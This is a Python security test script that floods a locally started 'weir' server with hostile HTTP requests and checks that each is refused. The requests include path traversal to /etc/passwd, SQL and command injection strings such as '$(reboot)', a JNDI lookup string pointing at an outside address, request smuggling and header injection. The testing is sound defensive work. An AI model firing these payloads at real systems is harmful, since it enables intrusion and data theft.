#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Hostile HTTP requests against a weir of our own on loopback: does any get in, does any hurt?

    tests/e2e/hostile.py                        10,000 requests of each kind in turn, with figures
    tests/e2e/hostile.py --requests 2000

Starts `build/weir run` with users, sends requests of more than twenty kinds from several threads, and meanwhile asks as an
honest user does, to see whether anybody notices. A request that is answered with what it must not get, or with an error of
the server's (5xx), fails the run; so do a restart, a leak of descriptors or memory, and an honest user who is kept waiting.
"""

from __future__ import annotations

import argparse
import contextlib
import os
import random
import re
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
THREADS = 8
CLOSED = 0  # the connection was closed without an answer


@dataclass
class Target:
    """A weir, its secrets, and where to reach it."""

    port: int
    process: int
    viewer: str
    old_cookie: str  # of a session that was logged out

    @property
    def host(self) -> str:
        return f"127.0.0.1:{self.port}"

    def request(self, method: str, path: str, *headers: str, body: bytes = b"", host: str | None = None) -> bytes:
        lines = [
            f"{method} {path} HTTP/1.1",
            f"Host: {self.host if host is None else host}",
            "Connection: close",
            *headers,
        ]
        if body or method in {"POST", "PUT", "PATCH"}:
            lines.append(f"Content-Length: {len(body)}")
        return "\r\n".join(lines).encode("utf-8", "surrogateescape") + b"\r\n\r\n" + body

    def bearer(self) -> str:
        return f"Authorization: Bearer {self.viewer}"


Build = Callable[[Target, random.Random], bytes]


@dataclass
class Kind:
    build: Build
    allowed: set[int]  # statuses that let nothing through
    patience: float = 15.0


def token(rng: random.Random) -> str:
    return "weir_" + "".join(rng.choices("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_", k=43))


TRAVERSALS = [
    "/../../etc/passwd", "/..%2f..%2fetc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/assets/../../users.json", "/..%5c..%5cx",
    "/assets/%2e%2e%2fusers.json", "//etc/passwd", "/%252e%252e/etc/passwd.txt", "/users.json", "/audit.jsonl", "/weir.db",
    "/etc/passwd%00.html", "/assets/..;/users.json", "/.git/config", "/api/v1/../../users.json",
]  # fmt: skip
INJECTIONS = [
    "' OR 1=1 --", "1; DROP TABLE detections", "' UNION SELECT * FROM users --", "%' OR '1'='1", "\\'; SELECT pg_sleep(9)--",
    "<script>alert(1)</script>", "${jndi:ldap://198.18.0.1/a}", "{{7*7}}", "$(reboot)", "`id`", "a\tb", "%s%s%s%n",
]  # fmt: skip
SITES = ["http://evil.example", "https://localhost.evil.example", "null", "http://127.0.0.1:1", "file://"]
HOSTS = ["evil.example", "127.0.0.1.evil.example", "localhost.evil.example:80", "", "198.18.0.1", "[::2]"]


def quoted(text: str) -> str:
    return "".join(c if c.isalnum() else f"%{b:02x}" for c in text for b in c.encode())


def kinds() -> dict[str, Kind]:
    def smuggled(t: Target, r: random.Random) -> bytes:
        inner = t.request("DELETE", "/api/v1/users/adam", t.bearer())
        double = r.choice(
            [
                "Content-Length: 4\r\nTransfer-Encoding: chunked",
                "Content-Length: 0\r\nContent-Length: 30",
                "Transfer-Encoding: xchunked",
                "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
                "Content-Length: +5",
                "Content-Length: -1",
                "Content-Length: 5 5",
            ]  # fmt: skip
        )
        return f"POST /api/v1/session HTTP/1.1\r\nHost: {t.host}\r\n{double}\r\n\r\n0\r\n\r\n".encode() + inner

    def deep(t: Target, r: random.Random) -> bytes:
        piece = r.choice([b"[", b'{"token":', b'{"a":['])
        return t.request(
            "POST", "/api/v1/session", "Content-Type: application/json", body=piece * (60_000 // len(piece))
        )

    def bad_json(t: Target, r: random.Random) -> bytes:
        body = r.choice(
            [
                b"{",
                b"\xff\xfe",
                b'{"token":"\xc3\x28"}',
                b'{"token":1e999}',
                b'{"token":"a","token":"b"}',
                b"null",
                b'"x"',
                b'{"token":{}}',
                b'{"token":"a\\u0000"}',
                b'{"tok\\u0000en":"a"}',
                bytes(r.randbytes(200)),
            ]  # fmt: skip
        )
        return t.request("POST", "/api/v1/session", "Content-Type: application/json", body=body)

    def as_viewer(t: Target, r: random.Random) -> bytes:
        method, path = r.choice(
            [
                ("GET", "/api/v1/users"),
                ("POST", "/api/v1/users"),
                ("DELETE", "/api/v1/users/adam"),
                ("GET", "/api/v1/audit"),
                ("POST", "/api/v1/reload"),
            ]  # fmt: skip
        )
        body = b'{"name":"mallory","role":"admin"}' if method == "POST" else b""
        return t.request(method, path, t.bearer(), "Content-Type: application/json", body=body)

    def garbage(t: Target, r: random.Random) -> bytes:
        return r.choice([b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", b"SSH-2.0-x\r\n", b"\x00" * 64, b""]) + r.randbytes(
            r.randint(1, 400)
        ) + b"\r\n\r\n"  # fmt: skip

    def form(t: Target, r: random.Random) -> bytes:
        kind = r.choice(
            ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/json"]
        )
        return t.request(
            "POST", "/api/v1/users", t.bearer(), f"Content-Type: {kind}", body=b'{"name":"m","role":"admin"}'
        )

    def post(t: Target, *headers: str, body: bytes) -> bytes:
        return t.request("POST", "/api/v1/session", "Content-Type: application/json", *headers, body=body)

    read = "/api/v1/detections?limit=1"
    refused = {400, 401, 403, 404, 405, 413, 415, 429, 431}
    return {
        "no token": Kind(lambda t, r: t.request("GET", read), {401}),
        "wrong token": Kind(lambda t, r: t.request("GET", read, f"Authorization: Bearer {token(r)}"), {401, 429}),
        "token cut or grown": Kind(
            lambda t, r: t.request("GET", read, f"Authorization: Bearer {t.viewer[: r.randint(1, 47)]}"), {401, 429}
        ),
        "token in the query": Kind(lambda t, r: t.request("GET", f"{read}&token={t.viewer}"), {400, 401}),
        "another scheme": Kind(
            lambda t, r: t.request("GET", read, f"Authorization: {r.choice(['Basic', 'Digest', ''])} {t.viewer}"), {401}
        ),
        "wrong login": Kind(lambda t, r: post(t, body=b'{"token":"%s"}' % token(r).encode()), {401, 429}),
        "replayed cookie": Kind(lambda t, r: t.request("GET", read, f"Cookie: {t.old_cookie}"), {401}),
        "forged cookie": Kind(
            lambda t, r: t.request("GET", read, f"Cookie: weir_session_{t.port}={token(r)[5:]}"), {401}
        ),
        "viewer as admin": Kind(as_viewer, {403}),
        "cross-site request": Kind(
            lambda t, r: t.request(r.choice(["GET", "DELETE"]), "/api/v1/session", t.bearer(), f"Origin: {r.choice(SITES)}"),
            {403},
        ),
        "cross-site by Sec-Fetch-Site": Kind(
            lambda t, r: t.request("GET", read, t.bearer(), f"Sec-Fetch-Site: {r.choice(['cross-site', 'same-site'])}"), {403}
        ),
        "form of another site": Kind(form, {403, 415}),
        "rebound host": Kind(lambda t, r: t.request("GET", read, t.bearer(), host=r.choice(HOSTS)), {400, 403}),
        "path traversal": Kind(lambda t, r: t.request("GET", r.choice(TRAVERSALS), t.bearer()), {400, 404}),
        "injection in a parameter": Kind(
            lambda t, r: t.request(
                "GET",
                f"/api/v1/detections?{r.choice(['host', 'cursor', 'from', 'limit', 'status'])}={quoted(r.choice(INJECTIONS))}",
                t.bearer(),
            ),
            {400},
        ),
        "injection in a path": Kind(
            lambda t, r: t.request("GET", f"/api/v1/detections/{quoted(r.choice(INJECTIONS))}", t.bearer()), {400, 404}
        ),
        "header injection": Kind(
            lambda t, r: t.request("GET", f"/x%0d%0aSet-Cookie:%20a=b{r.randint(0, 9)}", t.bearer()), {400}
        ),
        "oversized header": Kind(
            lambda t, r: t.request("GET", read, t.bearer(), "X: " + "x" * r.randint(17_000, 60_000)), {431, CLOSED}
        ),
        "oversized target": Kind(lambda t, r: t.request("GET", "/" + "a" * r.randint(17_000, 60_000)), {431, CLOSED}),
        "oversized body": Kind(lambda t, r: post(t, body=b"x" * r.randint(66_000, 200_000)), {413, CLOSED}),
        "endless chunks": Kind(
            lambda t, r: f"POST /api/v1/session HTTP/1.1\r\nHost: {t.host}\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
            + b"1000\r\n" * 1
            + (b"x" * 4096 + b"\r\n1000\r\n") * 20,
            {413, CLOSED},
        ),
        "malformed request": Kind(
            lambda t, r: r.choice(
                [b"GET\r\n\r\n", b"GET / HTTP/9.9\r\n\r\n", b"GET / HTTP/1.1\r\nno colon\r\n\r\n", b"G\x00T / HTTP/1.1\r\n\r\n",
                 b"GET /\x01 HTTP/1.1\r\nHost: localhost\r\n\r\n", b"GET / HTTP/1.1\r\n\r\n", b"\r\n\r\n\r\n\r\nGET\r\n\r\n",
                 b"GET / HTTP/1.1\r\nHost: a\r\n b\r\n\r\n"]  # fmt: skip
            ),
            {400, 403, CLOSED},
        ),
        "binary garbage": Kind(garbage, {400, CLOSED}),
        "smuggled request": Kind(smuggled, {400, 401, 403, 415, CLOSED}),
        "strange method": Kind(
            lambda t, r: t.request(
                r.choice(["TRACE", "CONNECT", "OPTIONS", "PROPFIND", "get", "X" * 300]), "/api/v1/status", t.bearer()
            ),
            {400, 405},
        ),
        "deep JSON": Kind(deep, {400}),
        "broken JSON": Kind(bad_json, {400}),
        "cut in the middle": Kind(
            lambda t, r: t.request("POST", "/api/v1/session", body=b"x" * 500)[: r.randint(5, 200)], {CLOSED}
        ),
        "odd parameters": Kind(
            lambda t, r: t.request(
                "GET", f"/api/v1/detections?limit={r.choice(['-1', '0', '1e9', '99999999999999999999', '%00', '1&limit=2'])}",
                t.bearer(),
            ),
            refused,
        ),
        "slow": Kind(lambda t, r: b"GET /api/v1/status HTTP/1.1\r\nHost: localhost\r\nX: ", {CLOSED}, patience=25),
    }  # fmt: skip


def status_of(answer: bytes) -> int:
    found = re.match(rb"HTTP/1\.[01] (\d{3}) ", answer)
    return int(found.group(1)) if found else CLOSED


def exchange(target: Target, bytes_out: bytes, patience: float, half_close: bool) -> bytes:
    """All that the server answers until it closes."""
    answer = b""
    with socket.create_connection(("127.0.0.1", target.port), timeout=patience) as connection:
        with contextlib.suppress(OSError):  # the server may have refused before it had read all
            connection.sendall(bytes_out)
            if half_close:
                connection.shutdown(socket.SHUT_WR)
        # Who keeps the connection open has answered all the same.
        with contextlib.suppress(ConnectionError, TimeoutError):
            while piece := connection.recv(65536):
                answer += piece
                if len(answer) > 1_000_000:
                    break
                connection.settimeout(2)
    return answer


@dataclass
class Findings:
    sent: Counter[str] = field(default_factory=Counter)
    answers: dict[str, Counter[int]] = field(default_factory=dict)
    wrong: list[str] = field(default_factory=list)
    seconds: float = 0.0
    waits: list[float] = field(default_factory=list)  # of the honest user
    complaints: list[str] = field(default_factory=list)
    rss_kib: tuple[int, int] = (0, 0)
    descriptors: tuple[int, int] = (0, 0)

    @property
    def sound(self) -> bool:
        return not self.wrong and not self.complaints

    def text(self) -> str:
        lines = [f"{'kind':<32}{'sent':>7}  answers (0: closed without one)"]
        for kind, count in self.sent.items():
            answers = ", ".join(f"{status}: {times}" for status, times in sorted(self.answers[kind].items()))
            lines.append(f"{kind:<32}{count:>7}  {answers}")
        waits = sorted(self.waits)
        lines.append(f"{sum(self.sent.values())} requests in {self.seconds:.1f} s; let in: {len(self.wrong)}")
        lines.append(
            f"an honest user meanwhile: {len(waits)} requests, median {statistics.median(waits) * 1e3:.1f} ms, "
            f"99 % within {waits[int(len(waits) * 0.99)] * 1e3:.1f} ms, at worst {waits[-1] * 1e3:.1f} ms"
        )
        lines.append(
            f"memory {self.rss_kib[0]} -> {self.rss_kib[1]} KiB; descriptors {self.descriptors[0]} -> {self.descriptors[1]}"
        )
        return "\n".join(lines + self.wrong[:20] + self.complaints)


def send_all(target: Target, jobs: list[tuple[str, Kind, int]], findings: Findings, lock: threading.Lock) -> None:
    for name, kind, seed in jobs:
        bytes_out = kind.build(target, random.Random(seed))
        try:
            answer = exchange(target, bytes_out, kind.patience, half_close=name == "cut in the middle")
        except OSError as error:
            with lock:
                findings.wrong.append(f"{name}: {error} ({bytes_out[:80]!r})")
            continue
        status = status_of(answer)
        with lock:
            findings.sent[name] += 1
            findings.answers.setdefault(name, Counter())[status] += 1
            if status not in kind.allowed or b"root:" in answer or b"token_argon2id" in answer:
                findings.wrong.append(f"{name}: {status} for {bytes_out[:120]!r}")


def ask_honestly(target: Target, done: threading.Event, findings: Findings) -> None:
    request = target.request("GET", "/api/v1/status", target.bearer())
    while not done.is_set():
        begin = time.monotonic()
        try:
            status = status_of(exchange(target, request, 10, half_close=False))
        except OSError as error:
            findings.complaints.append(f"the honest user was not answered: {error}")
            return
        findings.waits.append(time.monotonic() - begin)
        if status != 200:
            findings.complaints.append(f"the honest user got {status}")
            return
        time.sleep(0.02)


def resources(process: int) -> tuple[int, int]:
    status = Path(f"/proc/{process}/status").read_text()
    rss = int(re.search(r"VmRSS:\s+(\d+)", status).group(1))  # type: ignore[union-attr]
    return rss, sum(1 for _ in Path(f"/proc/{process}/fd").iterdir())


def attack(target: Target, requests: int, seed: int = 1) -> Findings:
    rng = random.Random(seed)
    table = kinds()
    # The slow ones hold a connection for ten seconds each: not more of them than leave room for others.
    slow = min(requests // len(table), 96)
    plan = [(name, kind, rng.getrandbits(32)) for name, kind in table.items() if name != "slow"]
    jobs = [
        (name, kind, rng.getrandbits(32)) for i in range(requests - slow) for name, kind, _ in [plan[i % len(plan)]]
    ]
    rng.shuffle(jobs)
    slow_jobs = [("slow", table["slow"], i) for i in range(slow)]

    findings = Findings()
    lock = threading.Lock()
    done = threading.Event()
    exchange(target, target.request("GET", "/api/v1/status", target.bearer()), 10, half_close=False)
    before = resources(target.process)
    honest = threading.Thread(target=ask_honestly, args=(target, done, findings))
    workers = [
        threading.Thread(target=send_all, args=(target, jobs[i::THREADS], findings, lock)) for i in range(THREADS)
    ]
    workers += [threading.Thread(target=send_all, args=(target, [job], findings, lock)) for job in slow_jobs]
    begin = time.monotonic()
    for thread in [honest, *workers]:
        thread.start()
    for thread in workers:
        thread.join()
    findings.seconds = time.monotonic() - begin
    done.set()
    honest.join()
    time.sleep(1.5)  # lingering closes
    after = resources(target.process)
    findings.rss_kib, findings.descriptors = (before[0], after[0]), (before[1], after[1])
    if after[1] > before[1] + 2:
        findings.complaints.append("descriptors were not given back")
    if after[0] > before[0] + 64 * 1024:
        findings.complaints.append("memory grew by more than 64 MiB")
    return findings


def log_in_and_out(port: int, secret: str) -> str:
    """The cookie of a session that is over."""
    target = Target(port, 0, secret, "")
    body = f'{{"token":"{secret}"}}'.encode()
    answer = exchange(
        target, target.request("POST", "/api/v1/session", "Content-Type: application/json", body=body), 10, False
    )
    cookie = re.search(rb"Set-Cookie: ([^;]+);", answer)
    assert status_of(answer) == 200 and cookie, answer
    text = cookie.group(1).decode()
    inside = exchange(target, target.request("GET", "/api/v1/session", f"Cookie: {text}"), 10, False)
    assert status_of(inside) == 200, inside
    leave = target.request("DELETE", "/api/v1/session", f"Cookie: {text}", f"Origin: http://{target.host}")
    assert status_of(exchange(target, leave, 10, False)) == 204
    return text


def main() -> int:
    arguments = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    arguments.add_argument("--requests", type=int, default=10_000)
    arguments.add_argument("--seed", type=int, default=1)
    arguments.add_argument("--program", default=os.environ.get("WEIR_BIN", str(ROOT / "build" / "weir")))
    given = arguments.parse_args()
    with tempfile.TemporaryDirectory() as folder:
        add = [given.program, "user", "--state-dir", folder, "add"]
        subprocess.run([*add, "adam", "--role", "admin"], check=True, capture_output=True)
        made = subprocess.run([*add, "vic", "--role", "viewer"], check=True, capture_output=True, text=True)
        pcap = ROOT / "demo" / "small" / "port-scan.pcap"
        command = [given.program, "run", "-r", str(pcap), "--listen", "127.0.0.1:0", "--state-dir", folder]
        with subprocess.Popen([*command, "--log-requests", "false"], stdout=subprocess.PIPE, text=True) as process:
            assert process.stdout is not None
            try:
                port = next(int(m.group(1)) for line in process.stdout if (m := re.search(r"127\.0\.0\.1:(\d+)", line)))
                secret = made.stdout.strip()
                target = Target(port, process.pid, secret, log_in_and_out(port, secret))
                findings = attack(target, given.requests, given.seed)
                print(findings.text())
                if process.poll() is not None:
                    findings.complaints.append(f"weir ended with {process.returncode}")
            finally:
                process.terminate()
    return 0 if findings.sound else 1


if __name__ == "__main__":
    sys.exit(main())
